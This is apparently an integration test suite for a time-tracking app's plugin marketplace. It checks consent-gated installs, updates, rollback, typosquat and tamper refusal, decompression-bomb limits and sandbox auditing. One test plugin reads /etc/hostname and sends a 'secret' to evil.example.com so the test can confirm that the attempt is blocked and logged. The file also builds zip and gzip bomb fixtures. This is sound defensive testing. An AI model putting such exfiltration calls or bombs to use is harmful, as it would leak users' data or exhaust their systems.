import { deepStrictEqual as equal, match, ok } from "node:assert/strict";
import { join } from "node:path";
import { deflateRawSync } from "node:zlib";
import { strToU8 } from "fflate";
import { packTar } from "modern-tar";
import { findCulprit } from "../core/cli/bisect.ts";
import type { UpdateInfo } from "../core/market/service.ts";
import type { PluginInfo } from "../core/plugin/plugin-info.ts";
import { findWall } from "../core/plugin/process/wall.ts";
import { writePackageFile } from "../core/plugin/install/package-file.ts";
import { gzipBomb, packedZeros, zipOf } from "./support/bombs.ts";
import { timetrack } from "./support/command-line.ts";
import { type FakeRegistry, startFakeRegistry } from "./support/fake-registry.ts";
import { startTestHost, type TestHost } from "./support/host.ts";

const ID = "acme.notes";
const PACKAGE = "timetrack-notes";

/** The files of a plugin that answers with its version. */
function notes(version: string, permissions: unknown = {}, id = ID): Record<string, string> {
  return {
    "manifest.json": JSON.stringify({
      id,
      version,
      title: { en: "Notes", de: "Notizen" },
      engines: { timetrack: "^2.0.0" },
      main: "main.js",
      permissions,
      contributes: { routes: [{ path: "/version", methods: ["GET"] }] },
    }),
    "main.js": `export function activate(context) {
      context.routes.get("/version", (c) => c.json({ version: "${version}" }));
    }`,
    "package.json": JSON.stringify({
      name: PACKAGE,
      version,
      scripts: { install: "touch ran", postinstall: "exit 1" },
    }),
  };
}

interface Scene {
  host: TestHost;
  registry: FakeRegistry;
  folder: string;
}

const plugin = async ({ host }: Scene, id = ID) =>
  (await host.json<PluginInfo[]>("/api/plugins")).find((one) => one.id === id);

const running = async ({ host }: Scene) => (await host.json<{ version: string }>(`/api/plugins/${ID}/version`)).version;

const post = <Answer = PluginInfo>({ host }: Scene, path: string, body: unknown = {}) =>
  host.json<Answer>(path, { method: "POST", body });

async function refused({ host }: Scene, source: string): Promise<string> {
  const response = await host.ask("/api/market/install", { method: "POST", body: { source } });
  const text = await response.text();
  ok(response.status >= 400, `it was installed: ${text}`);
  return JSON.parse(text).error.message;
}

/** What a process held at most, where the system tells. */
async function peakMegabytes(pid: number): Promise<number> {
  if (Deno.build.os !== "linux") return 0;
  const status = await Deno.readTextFile(`/proc/${pid}/status`);
  return Number(/^VmHWM:\s+(\d+) kB/m.exec(status)![1]) / 1024;
}

const cli = async ({ host }: Scene, ...words: string[]) => await timetrack(words, { home: host.home });

const steps: Record<string, (scene: Scene) => Promise<void>> = {
  "plugin search finds what has the keyword": async (scene) => {
    await scene.registry.publish({
      name: PACKAGE,
      version: "1.0.0",
      description: "keeps notes",
      files: notes("1.0.0"),
    });

    const found = await cli(scene, "plugin", "search", "keeps", "notes");
    equal([found.code, /npm:timetrack-notes +1\.0\.0 +anna +keeps notes/.test(found.out)], [0, true]);
    match((await cli(scene, "plugin", "search", "pigeons")).out, /No plugin was found/);
  },

  "plugin install fetches exactly that version, and runs nothing before the consent": async (scene) => {
    const { registry } = scene;
    await registry.publish({
      name: PACKAGE,
      version: "1.1.0",
      files: notes("1.1.0"),
      provenance: "https://slsa.dev/provenance/v1",
    });

    const waiting = await post(scene, "/api/market/install", { source: `npm:${PACKAGE}@1.0.0` });
    equal([waiting.version, waiting.state, waiting.origin?.source], ["1.0.0", "consent", `npm:${PACKAGE}`]);
    equal(waiting.origin?.signature, "verified");
    match(waiting.origin?.integrity ?? "", /^sha512-[A-Za-z0-9+/]{86}==$/);
    const files = [...Deno.readDirSync(join(scene.host.home, "plugins", ID))].map(({ name }) => name).toSorted();
    equal(files, ["main.js", "manifest.json", "package.json"]);

    const agreed = await cli(scene, "plugin", "install", `npm:${PACKAGE}@1.0.0`, "--yes");
    equal(agreed.code, 0, agreed.err);
    match(agreed.out, /acme\.notes 1\.0\.0\n.*npm:timetrack-notes\n.*sha512-.*\n.*signature is good/);
    equal(await running(scene), "1.0.0");
  },

  "plugin update takes what asks for no more at once, keeps the old one, and rollback brings it back": async (
    scene,
  ) => {
    equal(await post<UpdateInfo[]>(scene, "/api/market/updates"), [
      { id: ID, version: "1.0.0", newest: "1.1.0", problem: null },
    ]);

    const updated = await cli(scene, "plugin", "update");
    equal(updated.code, 0, updated.err);
    match(updated.out, /acme\.notes: 1\.0\.0 → 1\.1\.0[^]*slsa\.dev/);
    equal([await running(scene), (await plugin(scene))?.earlier], ["1.1.0", "1.0.0"]);
    match((await cli(scene, "plugin", "update", ID)).out, /1\.1\.0 is the newest/);

    match((await cli(scene, "plugin", "rollback", ID)).out, /is at version 1\.0\.0 again/);
    equal([await running(scene), (await plugin(scene))?.earlier], ["1.0.0", "1.1.0"]);
    await post(scene, `/api/market/plugins/${ID}/rollback`);
    equal(await running(scene), "1.1.0");
  },

  "an update that widens rights waits while the old one goes on, and says what is new and what is gone": async (
    scene,
  ) => {
    await scene.registry.publish({ name: PACKAGE, version: "1.2.0", files: notes("1.2.0", { storage: true }) });
    equal((await cli(scene, "plugin", "update", ID, "--yes")).code, 0);
    equal(await running(scene), "1.2.0");
    const wide = { host: ["activity:read"], net: [{ host: "notes.example.com", reason: "stores notes" }] };
    await scene.registry.publish({ name: PACKAGE, version: "1.3.0", files: notes("1.3.0", wide) });

    const asked = await cli(scene, "plugin", "update", ID);
    equal(asked.code, 1);
    match(asked.out, /1\.3\.0 waits for consent; version 1\.2\.0 goes on/);
    match(asked.out, /\+ new: Can send your activity to notes\.example\.com/);
    match(asked.out, /- no longer: Keep data of its own/);
    equal(await running(scene), "1.2.0");
    const { waiting } = (await plugin(scene))!;
    equal([waiting?.version, waiting?.fromElsewhere], ["1.3.0", false]);

    const again = await scene.host.restart({ env: { DENO_CERT: join(scene.folder, "ca.pem") } });
    scene.host = again;
    await again.until("the plugin is loaded", () => plugin(scene));
    equal([(await plugin(scene))?.waiting?.version, await running(scene)], ["1.3.0", "1.2.0"]);

    await post(scene, `/api/plugins/${ID}/enable`, { grant: true, consent: waiting!.consent });
    equal([await running(scene), (await plugin(scene))?.waiting], ["1.3.0", null]);
    equal((await plugin(scene))?.granted?.host, ["activity:read"]);

    // Back to what the person had agreed to then, and to nothing else.
    await post(scene, `/api/market/plugins/${ID}/rollback`);
    equal((await plugin(scene))?.granted, { ...waiting!.requested, net: [], host: [], storage: true });
  },

  "what an update no longer asked for, the next one does not have by itself": async (scene) => {
    for (const [version, permissions] of [["1.4.0", {}], ["1.5.0", { storage: true }]] as const) {
      await scene.registry.publish({ name: PACKAGE, version, files: notes(version, permissions) });
      await post(scene, `/api/market/plugins/${ID}/update`);
    }

    const found = (await plugin(scene))!;
    equal([found.version, found.waiting?.version], ["1.4.0", "1.5.0"]);
    await post(scene, `/api/market/plugins/${ID}/discard`);
    equal((await plugin(scene))?.waiting, null);
  },

  "what waits goes when another version is taken into use": async (scene) => {
    for (const [version, permissions] of [["1.6.0", { storage: true }], ["1.7.0", {}]] as const) {
      await scene.registry.publish({ name: PACKAGE, version, files: notes(version, permissions) });
      await post(scene, `/api/market/plugins/${ID}/update`);
    }

    const found = (await plugin(scene))!;
    equal([found.version, found.waiting], ["1.7.0", null]);
    const folder = join(scene.host.home, "plugins/.waiting", ID);
    equal(await Deno.stat(folder).catch(() => null), null);
    await post(scene, `/api/plugins/${ID}/enable`, { grant: true });
    equal(await running(scene), "1.7.0");
    await post(scene, `/api/market/plugins/${ID}/rollback`);
    equal(await running(scene), "1.4.0");
  },

  "a package under another name cannot take over a plugin and its rights": async (scene) => {
    await scene.registry.publish({ name: "timetrack-n0tes", version: "9.0.0", files: notes("9.0.0") });

    const waiting = await post(scene, "/api/market/install", { source: "npm:timetrack-n0tes" });
    equal([waiting.version, waiting.waiting?.version, waiting.waiting?.fromElsewhere], ["1.4.0", "9.0.0", true]);
    equal((await cli(scene, "plugin", "enable", ID)).out.includes("elsewhere"), true);
    // Asked twice it is still not the place that the plugin is from.
    await post(scene, "/api/market/install", { source: "npm:timetrack-n0tes" });
    equal(await running(scene), "1.4.0");
    await post(scene, `/api/market/plugins/${ID}/discard`);
  },

  "a package that becomes another plugin is refused": async (scene) => {
    await scene.registry.publish({ name: PACKAGE, version: "2.0.0", files: notes("2.0.0", {}, "acme.other") });
    match(await refused(scene, `npm:${PACKAGE}`), /the plugin from there is "acme\.notes"/);

    await scene.registry.publish({
      name: "timetrack-twin",
      version: "1.0.0",
      files: notes("1.0.0", {}, "acrne.notes"),
    });
    match(await refused(scene, "npm:timetrack-twin"), /could be mistaken for "acme\.notes"/);

    await scene.registry.publish({ name: "timetrack-old", version: "3.0.0", files: notes("1.0.0", {}, "acme.old") });
    match(await refused(scene, "npm:timetrack-old"), /version 3\.0\.0 was asked for, and 1\.0\.0 is in it/);
    equal(await running(scene), "1.4.0");
  },

  "what was changed on its way is refused": async (scene) => {
    const faults = {
      integrity: /is not what the registry says/,
      signature: /its signature is not one of the registry/,
      "no-sha512": /does not tell its sha512/,
      "other-name": /is not what a registry of npm tells/,
      "redirect-to-http": /only https is safe enough/,
      "redirects-forever": /leads on and on/,
    } as const;
    for (const [fault, sentence] of Object.entries(faults)) {
      const name = `timetrack-${fault}`;
      const files = notes("1.0.0", {}, "acme.bad");
      await scene.registry.publish({ name, version: "1.0.0", files, fault: fault as keyof typeof faults });
      match(await refused(scene, `npm:${name}`), sentence);
    }
    equal(await plugin(scene, "acme.bad"), undefined);
    match(await refused(scene, "npm:timetrack-nobody-made-this"), /there is nothing there/);
    match(await refused(scene, "npm:timetrack-integrity@7.0.0"), /Cannot find version "7\.0\.0"/);
    await scene.registry.publish({
      name: "timetrack-needs",
      version: "1.0.0",
      files: notes("1.0.0", {}, "acme.needs"),
      dependencies: { "left-pad": "^1.0.0" },
    });
    match(await refused(scene, "npm:timetrack-needs"), /it needs left-pad, which is not in it/);
    await scene.registry.publish({
      name: "timetrack-unsigned",
      version: "1.0.0",
      files: notes("1.0.0", {}, "acme.unsigned"),
      signed: false,
    });
    equal((await post(scene, "/api/market/install", { source: "npm:timetrack-unsigned" })).origin?.signature, "none");
  },

  "a package that becomes gigabytes is refused, and takes neither memory nor room on the disk": async (scene) => {
    const { host, registry } = scene;
    const left = () =>
      ["plugins", "cache"].flatMap((folder) => [...Deno.readDirSync(join(host.home, folder))])
        .map(({ name }) => name).filter((name) => /bomb|unpacked/.test(name));
    const before = await peakMegabytes(host.pid);
    const packed = packedZeros(2048);
    const manifest = strToU8(notes("1.0.0", {}, "acme.bomb")["manifest.json"]!);
    const head = { name: "manifest.json", packed: deflateRawSync(manifest), size: manifest.length };
    const tar = await packTar([{
      header: { name: "package/manifest.json", size: manifest.length, type: "file" },
      body: manifest,
    }]);
    const files = notes("1.0.0", {}, "acme.bomb");
    await registry.publish({
      name: "timetrack-bomb",
      version: "1.0.0",
      files,
      tarball: gzipBomb(2048, tar.subarray(0, 1024)),
    });
    match(await refused(scene, "npm:timetrack-bomb"), /5000 files and 64 MB are allowed/);
    for (const [at, size] of [2048 * 1024 * 1024, 1000].entries()) {
      const bomb = zipOf([head, { name: "zeros", packed, size }]);
      registry.serve(`/files/${at}.ttplugin`, bomb);
      match(await refused(scene, new URL(`files/${at}.ttplugin`, registry.address).href), /64 MB are allowed/);
      const file = join(scene.folder, "bomb.zip");
      await Deno.writeFile(file, bomb);
      match((await cli(scene, "plugin", "install", file)).err, /64 MB are allowed/);
    }

    equal(left(), []);
    const peak = await peakMegabytes(host.pid);
    ok(peak - before < 512, `${before} → ${peak} MB`);
  },

  "a .ttplugin is fetched from an address and verified": async (scene) => {
    const { registry } = scene;
    const encode = (files: Record<string, string>) =>
      Object.fromEntries(Object.entries(files).map(([name, text]) => [name, new TextEncoder().encode(text)]));
    const address = new URL("files/web.ttplugin", registry.address).href;
    registry.serve("/files/web.ttplugin", await writePackageFile(encode(notes("1.0.0", {}, "acme.web"))));

    const found = await post(scene, "/api/market/install", { source: address });
    equal([found.id, found.version, found.origin?.source], ["acme.web", "1.0.0", address]);
    match(await refused(scene, "http://localhost/files/web.ttplugin"), /neither a package of npm nor an https address/);

    const secret = await post(scene, "/api/market/install", { source: `${address}?token=hush` });
    equal([secret.origin?.source, (await scene.host.log()).includes("hush")], [`${address}?…`, false]);
    match((await cli(scene, "plugin", "update", "acme.web")).err, /followed the \? in its address was not kept/);

    const file = join(scene.folder, "changed.ttplugin");
    const packed = await writePackageFile(encode(notes("1.0.1", {}, "acme.web")));
    await Deno.writeFile(file, packed);
    match((await cli(scene, "plugin", "install", file)).out, /acme\.web 1\.0\.1/);
    const other = await writePackageFile(encode(notes("1.0.2", { storage: true }, "acme.web")));
    const { "checksums.json": sums } = (await import("fflate")).unzipSync(packed);
    const { "checksums.json": _, ...rest } = (await import("fflate")).unzipSync(other);
    await Deno.writeFile(file, (await import("fflate")).zipSync({ "checksums.json": sums!, ...rest }));
    match((await cli(scene, "plugin", "install", file)).err, /is not what its checksums\.json says/);
  },

  "what a plugin did with its rights stands beside them, and what it tried without any": async (scene) => {
    const manifest = {
      id: "acme.curious",
      version: "1.0.0",
      title: "Curious",
      engines: { timetrack: "^2.0.0" },
      main: "main.js",
      permissions: { read: ["${plugin}/own.txt"], env: ["LANG", "HOME"], host: ["calls:read", "activity:read"] },
      contributes: { commands: [{ id: "look", title: "Look" }] },
    };
    const folder = join(scene.folder, "curious");
    await Deno.mkdir(folder);
    await Deno.writeTextFile(join(folder, "manifest.json"), JSON.stringify(manifest));
    await Deno.writeTextFile(join(folder, "own.txt"), "mine");
    await Deno.writeTextFile(
      join(folder, "main.js"),
      `export function activate(context) {
        context.commands.register("look", async () => {
          const to = new Date().toISOString();
          for (let times = 0; times < 3; times++) await context.calls.list({ from: to, to });
          Deno.readTextFileSync(context.pluginFolder + "/own.txt");
          Deno.env.get("LANG");
          try { Deno.readTextFileSync("/etc/hostname"); } catch {}
          await fetch("https://evil.example.com/?secret=1").catch(() => {});
        });
      }`,
    );
    await post(scene, "/api/plugins/install", { folder });
    await post(scene, "/api/plugins/acme.curious/enable", { grant: true });
    await post(scene, "/api/plugins/acme.curious/commands/look");

    const { rights, tried } = (await plugin(scene, "acme.curious"))!;
    const used = (text: RegExp) => rights.find((right) => text.test(right.text))?.uses;
    equal([used(/telephone calls/), used(/programs and windows/)], [3, 0]);
    if (Deno.build.os === "windows") return;
    ok(used(/Read these files/)! > 0);
    ok(used(/settings of the system/)! > 0);
    equal(tried.map(({ kind, what }) => `${kind} ${what}`).toSorted(), [
      "net evil.example.com:443",
      "read /etc/hostname",
    ]);

    // It is still known after the end of its process.
    await post(scene, "/api/plugins/acme.curious/disable");
    equal((await plugin(scene, "acme.curious"))?.tried.length, 2);
    // Addresses may carry secrets: none reaches the disk.
    const kept = [...Deno.readDirSync(join(scene.host.home, "cache"))].map(({ name }) => name);
    equal(kept.includes("audit"), false);
  },

  "a plugin without a right to the network has none by the kernel either, where the kernel can": async (scene) => {
    const networkOf = (pid: number | string) => Deno.readLink(`/proc/${pid}/ns/net`);
    await running(scene);
    const { pid, granted } = (await plugin(scene))!;
    equal(granted?.net, []);
    const walled = await findWall(Deno.build.os) !== null;
    if (Deno.build.os === "linux") equal(await networkOf(pid!) === await networkOf("self"), !walled);
    const told = (await cli(scene, "doctor")).out;
    match(told, walled ? /have none by the kernel either/ : /held by their sandbox alone/);
  },

  "a version that may reach an address of a setting of its own can be agreed to": async (scene) => {
    const id = "acme.asks";
    const asks = (version: string, more: object) => {
      const files = notes(version, {}, id);
      return { ...files, "manifest.json": JSON.stringify({ ...JSON.parse(files["manifest.json"]!), ...more }) };
    };
    const contributes = {
      configuration: { properties: { server: { type: "string", title: "Place of notes" } } },
    };
    const permissions = { net: [{ host: "${setting:server}", reason: "asks" }] };
    await scene.registry.publish({ name: "timetrack-asks", version: "1.0.0", files: asks("1.0.0", {}) });
    await post(scene, "/api/market/install", { source: "npm:timetrack-asks" });
    await post(scene, `/api/plugins/${id}/enable`, { grant: true });
    await scene.registry.publish({
      name: "timetrack-asks",
      version: "1.1.0",
      files: asks("1.1.0", { contributes, permissions }),
    });

    const { waiting } = await post(scene, `/api/market/plugins/${id}/update`);
    ok(waiting?.rights.some(({ text }) => text.includes("Place of notes")), JSON.stringify(waiting));
    await post(scene, `/api/plugins/${id}/enable`, { grant: true, consent: waiting!.consent });

    const found = (await plugin(scene, id))!;
    equal([found.version, found.waiting, found.granted?.net], ["1.1.0", null, permissions.net]);
    await post(scene, `/api/plugins/${id}/remove`, { data: true });
  },

  "doctor --bisect finds the plugin at fault, leaves it off and all others on": async (scene) => {
    for (const id of ["acme.web", "acme.unsigned", "acme.curious"]) {
      await post(scene, `/api/plugins/${id}/enable`, { grant: true });
    }
    const on = async () =>
      (await scene.host.json<PluginInfo[]>("/api/plugins"))
        .filter(({ builtIn, state }) => !builtIn && state !== "disabled").map(({ id }) => id);
    const before = await on();
    const answers: string[] = [];
    await findCulprit(before, (some) => {
      answers.push(some.includes("acme.unsigned") ? "yes" : "no");
      return Promise.resolve(answers.at(-1) === "yes");
    });

    const input = ["perhaps", ...answers, ""].join("\n");
    const found = await timetrack(["doctor", "--bisect"], { home: scene.host.home, input });
    equal(found.code, 0, found.err);
    match(found.out, /answer yes or no[^]*It is acme\.unsigned: it is off now/);
    equal(await on(), before.filter((id) => id !== "acme.unsigned"));

    // Whoever gives up in the middle has all of them back.
    const gaveUp = await timetrack(["doctor", "--bisect"], { home: scene.host.home, input: "no\n" });
    equal([gaveUp.code, gaveUp.err], [1, "The search was ended; all plugins are on again"]);
    equal(await on(), before.filter((id) => id !== "acme.unsigned"));
  },

  "plugin remove takes all versions and what was granted": async (scene) => {
    await post(scene, `/api/plugins/${ID}/remove`, { data: true });
    const folders = [...Deno.readDirSync(join(scene.host.home, "plugins"))].map(({ name }) => name).toSorted();
    equal(folders, [".earlier", "acme.curious", "acme.unsigned", "acme.web"]);
    equal([...Deno.readDirSync(join(scene.host.home, "plugins/.earlier"))].map(({ name }) => name), ["acme.web"]);
    const again = await post(scene, "/api/market/install", { source: `npm:${PACKAGE}@1.0.0` });
    equal([again.state, again.granted, again.earlier], ["consent", null, null]);
  },

  "data that stayed are handed to no package from elsewhere": async (scene) => {
    await post(scene, `/api/plugins/${ID}/remove`);
    match(await refused(scene, "npm:timetrack-n0tes"), /data of one that came from elsewhere \(npm:timetrack-notes\)/);
    equal((await post(scene, "/api/market/install", { source: `npm:${PACKAGE}@1.0.0` })).version, "1.0.0");
    await post(scene, `/api/plugins/${ID}/remove`);

    const removed = await cli(scene, "plugin", "remove", ID, "--data");
    equal(removed.code, 0, removed.err);
    equal((await cli(scene, "plugin", "remove", ID, "--data")).code, 1);
    equal((await post(scene, "/api/market/install", { source: "npm:timetrack-n0tes" })).version, "9.0.0");
  },

  "what plugins did is forgotten with everything that was recorded, and with the plugin": async (scene) => {
    const id = "acme.curious";
    const told = async () => {
      const { rights, tried } = (await plugin(scene, id))!;
      return rights.some(({ uses }) => uses) || tried.length > 0;
    };
    await post(scene, `/api/plugins/${id}/enable`, { grant: true });
    await post(scene, `/api/plugins/${id}/commands/look`);
    equal(await told(), true);

    await post(scene, "/api/data/delete", { everything: true });
    await scene.host.until(
      "everything is deleted",
      async () => (await scene.host.json<{ job: { phase: string } }>("/api/data")).job.phase === "done" || null,
    );
    equal(await told(), false);

    await post(scene, `/api/plugins/${id}/commands/look`);
    await post(scene, `/api/plugins/${id}/remove`, { data: true });
    await post(scene, "/api/plugins/install", { folder: join(scene.folder, "curious") });
    equal(await told(), false);
  },
};

Deno.test("plugins are found, fetched, updated and brought back from a registry", async (t) => {
  await using registry = startFakeRegistry();
  const folder = await Deno.makeTempDir();
  const certificate = join(folder, "ca.pem");
  await Deno.writeTextFile(certificate, registry.ca);
  const scene: Scene = {
    host: await startTestHost({ config: { plugin_registry: registry.address }, env: { DENO_CERT: certificate } }),
    registry,
    folder,
  };
  try {
    for (const [name, check] of Object.entries(steps)) await t.step(name, () => check(scene));
  } finally {
    await scene.host[Symbol.asyncDispose]();
    await Deno.remove(scene.host.home, { recursive: true }).catch(() => {});
    await Deno.remove(folder, { recursive: true });
  }
});
